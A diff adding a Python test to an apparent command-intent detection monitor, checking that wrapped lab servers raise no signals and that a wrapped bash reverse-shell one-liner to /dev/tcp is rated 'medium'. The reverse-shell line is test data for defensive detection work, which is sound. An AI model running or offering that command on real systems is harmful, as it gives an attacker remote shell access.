@@ -200,3 +200,17 @@ def test_rule_is_in_the_catalogue() -> None:
     rule = load_rules()[RULE_SHELL_INTENT]
     assert rule.severity_for == {"low": "low", "medium": "high", "high": "critical"}
     assert re.match(r"T1059", rule.techniques[0][0])
+
+
+def test_wrappers_are_read_through_and_the_lab_servers_are_silent() -> None:
+    """`ip netns exec NS python3 -c CODE` names the interpreter: its code is read as Python
+    (never guessed as Perl), so the test servers the lab starts raise nothing."""
+    from monitor.lab.outside import DNS_SERVER, POOL_SERVER, SHELL_LISTENER
+    from monitor.lab.servers import SERVER
+
+    for code in (POOL_SERVER, DNS_SERVER, SHELL_LISTENER, SERVER):
+        argv = ["ip", "netns", "exec", "rlg-x", "/usr/bin/python3", "-c", code, "x"]
+        assert exec_intent(argv, "/usr/sbin/ip", SHELLS).signals == []
+    line = "bash -i >& /dev/tcp/10.0.0.1/4242 0>&1"
+    assert best(["ip", "netns", "exec", "ns", "bash", "-c", line]) == "medium"
+    assert best(["nsenter", "-t", "1", "-n", "bash", "-c", line]) == "medium"
